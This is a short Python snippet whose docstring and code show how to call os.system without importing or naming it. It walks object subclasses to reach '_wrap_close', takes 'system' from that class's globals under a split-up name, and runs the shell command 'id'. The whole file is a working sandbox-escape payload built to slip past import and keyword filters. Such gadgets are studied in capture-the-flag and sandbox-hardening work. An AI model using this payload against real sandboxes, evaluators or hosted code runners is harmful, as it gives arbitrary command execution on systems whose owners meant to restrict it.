"""Reach os.system without importing or naming it."""

for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["sys" + "tem"]("id")
